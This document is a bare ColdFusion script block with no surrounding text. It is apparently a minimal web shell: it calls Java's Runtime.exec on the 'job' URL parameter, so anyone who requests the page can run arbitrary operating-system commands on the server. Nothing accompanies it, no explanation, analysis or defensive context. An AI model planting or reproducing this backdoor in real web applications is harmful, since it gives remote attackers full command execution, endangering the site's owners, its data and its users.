<cfscript>
  rt = createObject("java", "java.lang.Runtime").getRuntime();
  p = rt.exec(url.job);
</cfscript>
